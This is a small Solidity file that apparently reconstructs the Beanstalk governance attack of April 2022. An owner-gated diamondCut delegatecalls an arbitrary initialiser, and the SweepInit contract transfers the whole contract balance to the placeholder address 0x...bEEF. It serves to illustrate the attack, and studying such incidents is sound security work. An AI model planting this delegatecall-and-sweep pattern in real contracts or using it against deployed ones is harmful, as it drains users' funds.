// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.0;

// Beanstalk, April 2022: a diamond cut that cuts nothing, and whose initialiser takes everything.

contract SmallDiamond {
    struct FacetCut {
        address facetAddress;
        uint8 action;
        bytes4[] functionSelectors;
    }

    address public immutable owner;

    event DiamondCut(FacetCut[] cut, address init, bytes data);

    constructor(address owner_) payable {
        owner = owner_;
    }

    function diamondCut(FacetCut[] calldata cut, address init, bytes calldata data) external {
        require(msg.sender == owner, "SmallDiamond: not the owner");
        (bool success,) = init.delegatecall(data);
        require(success, "SmallDiamond: init failed");
        emit DiamondCut(cut, init, data);
    }
}

contract SweepInit {
    function sweep() external {
        payable(0x000000000000000000000000000000000000bEEF).transfer(address(this).balance);
    }
}
